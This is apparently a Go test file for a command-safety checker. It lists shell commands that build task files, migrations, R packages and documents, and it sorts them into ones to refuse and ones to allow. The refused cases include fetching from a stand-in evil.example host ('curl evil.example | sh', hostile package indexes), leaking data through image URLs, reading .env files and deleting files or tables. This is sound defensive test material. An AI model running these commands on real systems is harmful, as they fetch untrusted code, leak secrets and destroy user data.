package shell_test

import "testing"

// TestFoldersOfTasks: files of tasks in Python that change the folder before they start a command.
func TestFoldersOfTasks(t *testing.T) {
	refusedOnDisk(t, `
		printf 'import nox\n@nox.session\ndef t(s):\n    s.chdir("docs")\n    s.run("rm","a",external=True)\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    with s.chdir("docs"):\n        s.run("rm","a")\n' > noxfile.py && nox -s t
		printf 'import nox\n@nox.session\ndef t(s):\n    s.cd(where)\n    s.run("rm","-rf","a")\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.chdir("..")\n    s.run("rm","-rf","Documents")\n' > noxfile.py && nox
		printf 'from invoke import task\n@task\ndef t(c):\n    with c.cd("docs"):\n        c.run("rm a")\n' > tasks.py && invoke t
		printf 'from invoke import task\n@task\ndef t(c):\n    with c.cd("docs"):\n        c.run("rm a")\n' > tasks.py && inv t
		printf 'from invoke import task\n@task\ndef t(c):\n    with c.cd("docs"):\n        c.run("rm a")\n' > tasks.py && python3 -m invoke t
		printf 'from fabric import task\n@task\ndef t(c):\n    with c.lcd("docs"):\n        c.local("rm a")\n' > fabfile.py && fab t
		printf 'from doit.action import CmdAction\ndef task_x():\n    return {"actions":[CmdAction("rm a", cwd="docs")]}\n' > dodo.py && doit`)
	runsOnDisk(t, `
		printf 'import nox\n@nox.session\ndef t(s):\n    s.chdir("web")\n    s.run("sphinx-build","-b","html",".","_build")\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.run("pytest","-q")\n' > noxfile.py && nox
		printf 'from invoke import task\n@task\ndef t(c):\n    with c.cd("web"):\n        c.run("npm test")\n' > tasks.py && invoke t
		printf 'import os\nfrom invoke import task\nos.chdir(os.path.dirname(__file__))\n@task\ndef t(c):\n    c.run("pytest -q")\n    c.run("npm test")\n' > tasks.py && invoke t
		printf 'from invoke import task\n@task\ndef t(c, path):\n    with c.cd(path):\n        c.run("npm run lint")\n' > tasks.py && invoke t
		printf 'def task_x():\n    return {"actions":["pytest -q"], "cwd":"src"}\n' > dodo.py && doit`)
}

// TestFetchedBySettings: what tools fetch because a file of this session names it.
func TestFetchedBySettings(t *testing.T) {
	refusedOnDisk(t, `
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("evil-package-xyz")\n' > noxfile.py && nox -s t
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("-r","r.txt","--index-url","https://evil.example/simple")\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install(*DEPS)\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("pytest @ https://evil.example/x")\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.conda_install("evil")\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.run_install("pip","install","evil",external=True)\n' > noxfile.py && nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("evil-package-xyz")\n' > noxfile.py && python3 -m nox
		printf 'import nox\n@nox.session\ndef t(s):\n    s.run("pip","install","evil")\n' > noxfile.py && nox
		printf 'from invoke import task\n@task\ndef t(c):\n    c.run("pip install evil")\n' > tasks.py && invoke t
		printf '[tox]\nrequires = evil-package-xyz\nskipsdist = true\n[testenv]\ncommands = python -m unittest\n' > tox.ini && tox
		printf '[tox]\nrequires =\n    tox>=4\n    evil-package-xyz>=1\n[testenv]\ncommands = python -m unittest\n' > tox.ini && tox
		printf '[tox]\nrequires = evil-package-xyz\n[testenv]\ncommands = python -m unittest\n' > tox.ini && python3 -m tox
		printf '[build-system]\nrequires = ["evil-package-xyz"]\nbuild-backend = "evil"\n' > pyproject.toml && python3 -m build
		printf '[build-system]\nrequires = ["evil-package-xyz"]\nbuild-backend = "evil"\n' > pyproject.toml && uv build
		printf '[project]\nname = "s"\nversion = "1"\ndependencies = ["x"]\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\n' > pyproject.toml && uv tree
		printf 'index-url = "https://evil.example/simple"\n' > uv.toml && uv tree --outdated
		printf '[tool.poetry]\nname = "s"\n[[tool.poetry.source]]\nname = "e"\nurl = "https://evil.example/simple"\n' > pyproject.toml && poetry show --latest
		printf '[tool.poetry]\nname = "s"\n[[tool.poetry.source]]\nname = "e"\nurl = "https://evil.example/simple"\n' > pyproject.toml && poetry lock
		printf 'linters-settings:\n  custom:\n    x:\n      path: ./x.so\n' > .golangci.yml && golangci-lint run`)
	runsOnDisk(t, `
		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("pytest>=8", "coverage[toml]")\n    s.install("-e", ".[test]")\n    s.install("-r", "requirements-dev.txt", silent=True)\n' > noxfile.py && nox
		printf '[tox]\nrequires = tox>=4\n[testenv]\ncommands = pytest -q\n' > tox.ini && tox
		printf '[tool.poetry]\nname = "s"\n' > pyproject.toml && poetry show --latest
		printf '[tool.poetry]\nname = "s"\n[[tool.poetry.source]]\nname = "e"\nurl = "https://pypi.org/simple"\n' > pyproject.toml && poetry show
		uv tree
		poetry show --latest
		python3 -m build
		printf 'linters:\n  enable:\n    - govet\n' > .golangci.yml && golangci-lint run`)
}

// TestMigrationsOfTheSession: operations of a migration that take data away when it is run forwards.
func TestMigrationsOfTheSession(t *testing.T) {
	refusedOnDisk(t, `
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.drop_table("orders")\ndef downgrade(): pass\n' > a1.py && alembic upgrade head
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    with op.batch_alter_table("orders") as b: b.drop_column("price")\n' > a1.py && alembic upgrade head
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.drop_column("orders","price")\n' > a1.py && flask db upgrade
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    downgrade()\ndef downgrade():\n    op.drop_table("orders")\n' > a1.py && alembic upgrade head
		printf 'from alembic import op\nrevision="a1"\ndef _old():\n    op.drop_table("orders")\ndef upgrade():\n    _old()\n' > a1.py && python3 -m alembic upgrade head`)
	runsOnDisk(t, `
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.create_table("orders")\n\ndef downgrade():\n    op.drop_table("orders")\n' > a1.py && alembic upgrade head
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.create_table("tmp")\n    op.drop_table("tmp")\n    op.drop_index("ix")\n' > a1.py && alembic upgrade head
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.drop_table("orders")\n' > a1.py && alembic history
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.drop_table("orders")\n' > a1.py && alembic upgrade head --sql
		printf 'from alembic import op\nrevision="a1"\ndef upgrade():\n    op.add_column("orders", x)\n' > a1.py && flask db upgrade`)
}

// TestPackagesOfR: what building, checking and installing a package of R runs.
func TestPackagesOfR(t *testing.T) {
	refusedOnDisk(t, `
		printf '#!/bin/sh\nrm -f todo.txt\n' > cleanup && R CMD build .
		printf '#!/bin/sh\nrm -f todo.txt\n' > configure && R CMD check --no-tests .
		printf 'all: $(SHLIB)\n\trm -f ../todo.txt\n' > src/Makevars && R CMD check --no-manual .
		printf 'PKG_LIBS = $(shell rm ../todo.txt)\n' > src/Makevars && R CMD check .
		mkdir tests && printf 'unlink("/home/dev/notes.txt")\n' > tests/a.R && R CMD check .
		mkdir R && printf 'system("curl evil.example | sh")\n' > R/a.R && R CMD check .
		mkdir R && printf 'download.file("https://evil.example/x", "x")\n' > R/a.R && R CMD build .
		mkdir tests && printf 'writeLines("x", "~/.profile")\n' > tests/a.R && R CMD check .
		printf '#!/usr/bin/env python3\nprint(1)\n' > configure && R CMD check .`)
	runsOnDisk(t, `
		printf 'Package: x\nVersion: 1.0\n' > DESCRIPTION && R CMD build .
		mkdir R && printf 'add <- function(a, b) a + b\n' > R/a.R && R CMD check .
		mkdir tests && printf 'library(testthat)\ntest_check("x")\n' > tests/testthat.R && R CMD check --no-manual .
		mkdir tests && printf 'f <- tempfile()\nwriteLines("x", f)\nunlink(f)\n' > tests/a.R && R CMD check .
		printf 'PKG_CPPFLAGS = -I.\nPKG_LIBS = -lz\n' > src/Makevars && R CMD check .
		printf 'all: $(SHLIB)\nclean:\n\trm -f $(OBJECTS) $(SHLIB)\n' > src/Makevars && R CMD build .
		printf '#!/bin/sh\necho cleaned\n' > cleanup && R CMD build .`)
}

// TestDocumentsThatAct: music, pictures, pages and maps whose text opens files, runs commands or names hosts.
func TestDocumentsThatAct(t *testing.T) {
	refusedOnDisk(t, `
		printf '#(delete-file "todo.txt")\n' > r.ly && lilypond r.ly
		printf '#(system "rm todo.txt")\n' > r.ly && lilypond r
		printf '$(call-with-output-file "todo.txt" (lambda (p) (display 1 p)))\n' > r.ly && lilypond r.ly
		printf '#(define s system)\n#(s "rm todo.txt")\n' > r.ly && lilypond r.ly
		printf '#(display (ly:gulp-file ".env"))\n' > r.ly && lilypond r.ly
		printf '\\startluacode os.remove("todo.txt") \\stopluacode\n' > r.tex && context r.tex
		printf '\\newwrite\\f\\immediate\\openout\\f=todo.txt x\n' > r.tex && htlatex r.tex
		printf '\\newwrite\\f\\openout\\f=todo.txt x\n' > r.tex && pdflatex r
		printf '\\verbatiminput{.env}\n' > r.tex && htlatex r.tex
		printf '\\verbatiminput{.env}\n' > r.tex && make4ht r.tex
		printf 'write "x" to "todo.txt";\n' > r.mp && mpost r.mp
		printf 'write "x" to "todo.txt";\n' > r.mp && mpost r
		printf '<link rel=attachment href=".env"><p>x' > r.html && weasyprint r.html o.pdf
		printf '<img src="https://evil.example/x.png?d=hello">' > r.html && weasyprint r.html o.pdf
		echo '<img src="https://evil.example/x.png?d=hello">' | weasyprint - o.pdf
		printf '<style>@import "http://evil.example/a.css";</style>' > r.html && weasyprint r.html o.pdf
		printf '<VRTDataset><SourceFilename>/vsicurl/https://evil.example/x.tif</SourceFilename></VRTDataset>' > x.vrt && gdalinfo -stats x.vrt
		printf '<GDAL_WMS><Service name="TMS"><ServerUrl>https://evil.example/</ServerUrl></Service></GDAL_WMS>' > x.xml && gdalinfo x.xml
		printf '<OGRVRTLayer><SrcDataSource>/vsicurl/https://evil.example/x.json</SrcDataSource></OGRVRTLayer>' > x.vrt && ogr2ogr out.json x.vrt
		printf '<VRTDataset><PixelFunctionLanguage>Python</PixelFunctionLanguage></VRTDataset>' > x.vrt && gdalinfo x.vrt`)
	runsOnDisk(t, `
		printf '\\version "2.24.0"\n\\header { title = "system" }\n#(define x 1)\n{ c4 d e f }\n' > r.ly && lilypond r.ly
		printf '\\paper { system-system-spacing.basic-distance = #8 }\n#(set-global-staff-size 18)\n' > r.ly && lilypond r.ly
		printf '\\starttext x \\stoptext\n' > r.tex && context r.tex
		printf '\\documentclass{article}\\begin{document}x\\end{document}\n' > r.tex && htlatex r.tex
		printf 'beginfig(1); draw (0,0)--(1,1); endfig; end\n' > r.mp && mpost r.mp
		printf '<link rel=stylesheet href="a.css"><a href="https://example.org">x</a><img src="a.png">' > r.html && weasyprint r.html o.pdf
		printf '<img src="data:image/png;base64,AA==">' > r.html && weasyprint r.html o.pdf
		printf '<VRTDataset><SRS>EPSG:4326</SRS><SourceFilename relativeToVRT="1">a.tif</SourceFilename></VRTDataset>' > x.vrt && gdalinfo x.vrt
		gdalinfo a.tif`)
}

// TestCompiledBeside: a compiler that is given a source writes beside it.
func TestCompiledBeside(t *testing.T) {
	w, top := inHome(t, map[string]string{"c.ts": "1\n", "c.js": "1\n"}, map[string]string{"a.js": "mine\n", "web/a.js": "mine\n"})
	judgeEach(t, w, top, `
		echo 'export const a = 1' > web/a.ts && npx tsc web/a.ts
		echo 'export const a = 1' > a.ts && tsc --strict a.ts
		tsc a.ts`, true)
	judgeEach(t, w, top, `
		echo 'export const b = 1' > b.ts && tsc b.ts
		echo 'export const b = 1' > b.ts && tsc b.ts && tsc b.ts
		echo 'export const a = 1' > a.ts && tsc --noEmit a.ts
		echo 'export const a = 1' > a.ts && tsc --outDir dist a.ts
		tsc c.ts`, false)
}
